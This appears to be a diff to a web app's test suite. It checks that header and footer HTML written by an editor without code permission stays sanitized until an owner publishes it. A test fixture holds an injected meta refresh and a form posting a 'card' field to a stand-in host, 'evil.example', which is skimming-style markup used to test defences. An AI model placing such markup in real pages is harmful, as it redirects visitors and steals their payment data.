@@ -46,6 +46,8 @@ describe('every owner route declares its permission', () => {
       for (const [method, url, permission] of [
         ['GET', '/api/site-header-footer', 'site:header-footer'],
         ['PUT', '/api/site-header-footer', 'site:header-footer'],
+        ['POST', '/api/site-header-footer/publish', 'site:code'],
+        ['POST', '/api/admin/pages/x/blocks/y/publish', 'site:code'],
         ['GET', '/api/multilingual/settings', 'site:languages'],
         ['GET', '/api/multilingual/status', 'site:languages'],
         ['GET', '/api/multilingual/languages', 'site:languages'],
@@ -78,7 +80,11 @@ describe('every owner route declares its permission', () => {
 
 describe('header and footer', () => {
   it('answers what is stored, saves a change, and every page shows it on its next load', async () => {
-    expect(json(await owner.get('/api/site-header-footer'))).toEqual({ header: '', footer: expect.stringContaining('Made by hand') });
+    expect(json(await owner.get('/api/site-header-footer'))).toEqual({
+      header: '',
+      footer: expect.stringContaining('Made by hand'),
+      heldSanitized: [],
+    });
     const saved = await owner.putJson('/api/site-header-footer', { header: '<p>Free shipping this week</p>', footer: '<p>© Studio</p>' });
     expect(saved.statusCode).toBe(200);
     const { document } = await documentAt('/shop');
@@ -122,6 +128,60 @@ describe('header and footer HTML from a role without site:code', () => {
   it('is shown as written once a role with site:code saves it', async () => {
     await owner.putJson('/api/site-header-footer', { header: '<script src="/assets/x.js"></script>', footer: '' });
     expect((await owner.get('/shop')).body).toContain('<div class="site-header-html"><script src="/assets/x.js"></script></div>');
+  });
+});
+
+describe('header and footer written by a role without site:code, saved again by the owner', () => {
+  const refresh =
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/collect" method="post"><input name="card"></form>';
+
+  async function editorWritesHeader() {
+    const editor = await Visitor.signedIn(app, 'editor@example.com');
+    const { footer } = json(await owner.get('/api/site-header-footer')) as { footer: string };
+    expect((await editor.putJson('/api/site-header-footer', { header: refresh, footer })).statusCode).toBe(200);
+    return editor;
+  }
+
+  it('stays sanitized when the owner changes only the footer', async () => {
+    await editorWritesHeader();
+    const read = json(await owner.get('/api/site-header-footer'));
+    expect(read).toEqual({ header: refresh, footer: expect.any(String), heldSanitized: ['header'] });
+    expect((await owner.putJson('/api/site-header-footer', { header: refresh, footer: '<p>© Studio</p>' })).statusCode).toBe(200);
+
+    const guest = new Visitor(app);
+    const page = await guest.get('/shop');
+    expect(page.body).not.toContain('evil.example');
+    expect(page.body).not.toContain('http-equiv="refresh"');
+    expect(new happyDom.DOMParser().parseFromString(page.body, 'text/html').querySelector('footer.site-footer')?.textContent).toBe(
+      '© Studio',
+    );
+    expect(json(await owner.get('/api/site-header-footer'))['heldSanitized']).toEqual(['header']);
+  });
+
+  it('takes the owner’s trust for a part the owner rewrites', async () => {
+    await editorWritesHeader();
+    await owner.putJson('/api/site-header-footer', { header: '<script src="/assets/x.js"></script>', footer: '' });
+    expect(json(await owner.get('/api/site-header-footer'))['heldSanitized']).toEqual([]);
+    expect((await new Visitor(app).get('/shop')).body).toContain(
+      '<div class="site-header-html"><script src="/assets/x.js"></script></div>',
+    );
+  });
+
+  it('is shown as written once the owner publishes it, and only a role with site:code can', async () => {
+    const editor = await editorWritesHeader();
+    const refused = await editor.postJson('/api/site-header-footer/publish', { part: 'header', html: refresh });
+    expect(refused.statusCode).toBe(403);
+    expect((await new Visitor(app).get('/shop')).body).not.toContain('evil.example');
+
+    const stale = await owner.postJson('/api/site-header-footer/publish', { part: 'header', html: '<p>what the owner saw</p>' });
+    expect([stale.statusCode, json(stale)['error']]).toEqual([409, expect.stringContaining('header has changed')]);
+    const wrong = await owner.postJson('/api/site-header-footer/publish', { part: 'sidebar', html: refresh });
+    expect([wrong.statusCode, json(wrong)['error']]).toEqual([400, expect.stringContaining('part')]);
+
+    const published = await owner.postJson('/api/site-header-footer/publish', { part: 'header', html: refresh });
+    expect(published.statusCode).toBe(200);
+    expect(json(published)['heldSanitized']).toEqual([]);
+    expect((await new Visitor(app).get('/shop')).body).toContain(`<div class="site-header-html">${refresh}</div>`);
   });
 });
 
